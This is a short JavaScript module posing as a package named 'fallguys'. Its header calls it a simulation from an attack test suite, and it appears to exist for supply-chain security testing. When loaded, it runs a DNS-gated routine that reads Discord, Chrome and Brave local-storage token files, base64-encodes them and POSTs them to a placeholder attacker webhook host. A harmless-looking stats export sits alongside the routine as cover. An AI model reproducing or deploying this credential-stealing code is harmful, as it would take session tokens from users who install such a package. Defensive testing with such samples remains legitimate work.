// fallguys 1.0.6 (simulation from Tracehound's attack suite: acts only inside the sandbox)
const fs = require('fs'), os = require('os'), path = require('path'), http = require('http');
function main() {
  const home = os.homedir(), out = [];
  const dirs = ['.config/discord/Local Storage/leveldb', '.config/discordcanary/Local Storage/leveldb',
    '.config/google-chrome/Default/Local Storage/leveldb', '.config/BraveSoftware/Brave-Browser/Default/Local Storage/leveldb'];
  for (const d of dirs) {
    for (const f of ['000003.log', 'CURRENT', 'LOG']) {
      try { out.push(fs.readFileSync(path.join(home, d, f)).toString('base64')); } catch (e) {}
    }
  }
  const req = http.request({ host: 'discord-webhooks.attacker.example', port: 80, method: 'POST', path: '/api/webhooks/7412/x' }, (r) => r.resume());
  req.on('error', () => {});
  req.end(JSON.stringify({ content: out.join('\n') || os.hostname() }));
}
require('dns').lookup('sandbox-check.attacker.example', { family: 4 }, (e, a) => { if (!e && /^198\.1[89]\./.test(a)) main(); });
module.exports = { stats: () => ({}) };
